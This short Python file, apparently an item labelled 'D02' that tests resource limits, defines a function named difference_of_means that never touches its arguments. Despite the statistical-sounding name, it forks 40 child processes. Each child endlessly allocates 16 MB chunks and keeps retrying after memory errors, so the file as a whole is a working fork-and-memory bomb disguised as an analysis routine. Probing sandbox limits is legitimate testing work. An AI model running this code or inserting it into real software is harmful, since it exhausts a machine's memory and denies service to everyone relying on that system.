"""D02: as much memory as one process may have, in many processes: no limit a process helps."""

import os
import time


def difference_of_means(acts, labels):
    for _ in range(40):
        if os.fork() == 0:
            kept = []
            while True:
                try:
                    kept.append(b"x" * (16 << 20))
                except MemoryError:
                    time.sleep(0.01)
    time.sleep(60)
